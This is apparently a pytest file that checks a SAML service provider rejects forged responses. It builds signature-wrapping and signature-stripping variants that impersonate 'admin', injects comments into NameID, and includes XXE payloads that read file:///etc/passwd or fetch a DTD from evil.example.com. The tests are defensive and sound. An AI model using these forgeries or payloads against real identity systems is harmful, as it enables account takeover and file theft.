"""Attacks on the responses of a SAML provider: wrapped signatures, comments, entities."""

from __future__ import annotations

import base64
from collections.abc import Callable
from copy import deepcopy
from typing import Any

import pytest
from lxml import etree

from pytest_cognito.cognito import Cognito, UserPool
from tests.support.app import App
from tests.support.saml import DS, SAML2, SAML2P, encoded
from tests.support.upstream import Upstream

SIGNATURE = "SAML Response signature is invalid"
UNREADABLE = "SAML Response can't be read"
ONE = "SAML Response must have one assertion"


@pytest.fixture
def pool(cognito: Cognito) -> UserPool:
    return cognito.create_user_pool()


@pytest.fixture
def acme(pool: UserPool, cognito_idp: Any) -> Upstream:
    pool.create_client()
    return Upstream.saml(App(cognito_idp, pool), AttributeMapping={"nickname": "nick"})


# Wrapping: a signed assertion stays somewhere in the response, and another one is put where it is looked for.


def evil(assertion: Any) -> Any:
    """A copy of a signed assertion that names somebody else, without its signature."""
    copy = deepcopy(assertion)
    copy.find(f".//{{{SAML2}}}NameID").text = "admin"
    copy.set("ID", "_evil")
    for signature in copy.findall(f"{{{DS}}}Signature"):
        copy.remove(signature)
    return copy


def of(response: Any) -> Any:
    return response.find(f"{{{SAML2}}}Assertion")


def beside(response: Any) -> None:
    response.append(evil(of(response)))


def before(response: Any) -> None:
    response.insert(1, evil(of(response)))


def inside_the_evil_one(response: Any) -> None:
    original = of(response)
    other = evil(original)
    response.replace(original, other)
    other.append(original)


def in_an_extension(response: Any) -> None:
    original = of(response)
    other = evil(original)
    response.replace(original, other)
    extensions = etree.Element(f"{{{SAML2P}}}Extensions")
    extensions.append(original)
    response.insert(0, extensions)


def in_an_object_of_the_signature(response: Any) -> None:
    original = of(response)
    other = evil(original)
    response.replace(original, other)
    signature = original.find(f"{{{DS}}}Signature")
    other.insert(1, signature)
    etree.SubElement(signature, f"{{{DS}}}Object").append(original)


def with_the_same_id(response: Any) -> None:
    original = of(response)
    other = evil(original)
    other.set("ID", "_assertion")
    response.replace(original, other)
    other.insert(1, original.find(f"{{{DS}}}Signature"))
    extensions = etree.SubElement(response, f"{{{SAML2P}}}Extensions")
    extensions.append(original)


def without_signature(response: Any) -> None:
    response.replace(of(response), evil(of(response)))


def with_the_signature_of_another(response: Any) -> None:
    original = of(response)
    other = evil(original)
    other.insert(1, original.find(f"{{{DS}}}Signature"))
    response.replace(original, other)


def with_two_signatures(response: Any) -> None:
    of(response).insert(1, deepcopy(of(response).find(f"{{{DS}}}Signature")))


def with_an_empty_reference(response: Any) -> None:
    of(response).find(f".//{{{DS}}}Reference").set("URI", "")


def without_signature_value(response: Any) -> None:
    of(response).find(f".//{{{DS}}}SignatureValue").text = None


def with_an_hmac(response: Any) -> None:
    method = of(response).find(f".//{{{DS}}}SignatureMethod")
    method.set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256")


@pytest.mark.parametrize(
    ("spoil", "problem"),
    [
        (beside, ONE),
        (before, ONE),
        (inside_the_evil_one, ONE),
        (in_an_extension, ONE),
        (in_an_object_of_the_signature, ONE),
        (with_the_same_id, ONE),
        (without_signature, SIGNATURE),
        (with_the_signature_of_another, SIGNATURE),
        (with_two_signatures, SIGNATURE),
        (with_an_empty_reference, SIGNATURE),
        (without_signature_value, SIGNATURE),
        (with_an_hmac, SIGNATURE),
    ],
)
def test_wrapping_and_stripping(acme: Upstream, spoil: Callable[[Any], None], problem: str) -> None:
    assert acme.refuses(acme.answer.but(spoil=spoil)) == problem


@pytest.mark.parametrize("spoil", [beside, in_an_extension, without_signature])
def test_wrapping_in_a_signed_response(acme: Upstream, spoil: Callable[[Any], None]) -> None:
    assert acme.refuses(acme.answer.but(signs=("response",), spoil=spoil)) == SIGNATURE


def test_a_signed_response_within_another(acme: Upstream) -> None:
    signed = acme.answer.but(signs=("response",)).element()
    outer = acme.answer.but(signs=(), name_id="admin", spoil=lambda response: response.append(signed))
    assert acme.refuses(outer) == ONE


@pytest.mark.parametrize("spoiling", ["comment", "instruction", "cdata"])
def test_a_comment_in_the_name_does_not_shorten_it(acme: Upstream, spoiling: str) -> None:
    inserted = {"comment": "<!-- -->", "instruction": "<?x y?>", "cdata": "<![CDATA[]]>"}[spoiling]
    found = acme.take(acme.answer.but(name_id=f"admin@example.com{inserted}.evil.example"))
    assert found.user.subject == "admin@example.com.evil.example"


def test_a_comment_that_is_put_in_later_changes_nothing(acme: Upstream) -> None:
    def spoil(response: Any) -> None:
        name = response.find(f".//{{{SAML2}}}NameID")
        name.text, comment = "ad", etree.Comment("x")
        comment.tail = "min"
        name.append(comment)

    assert acme.take(acme.answer.but(name_id="admin", spoil=spoil)).user.subject == "admin"


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE a [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a SYSTEM "https://evil.example.com/a.dtd">',
        "<!DOCTYPE a>",
        '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a [+ADwAIQ-ENTITY b "x"+AD4]+AD4',
    ],
)
def test_documents_with_entities(acme: Upstream, declared: str) -> None:
    assert acme.refuses(encoded(declared.encode() + base64.b64decode(acme.answer.text))) == UNREADABLE
    assert acme.refuses(encoded(declared.encode() + b"<a>&b;</a>")) == UNREADABLE
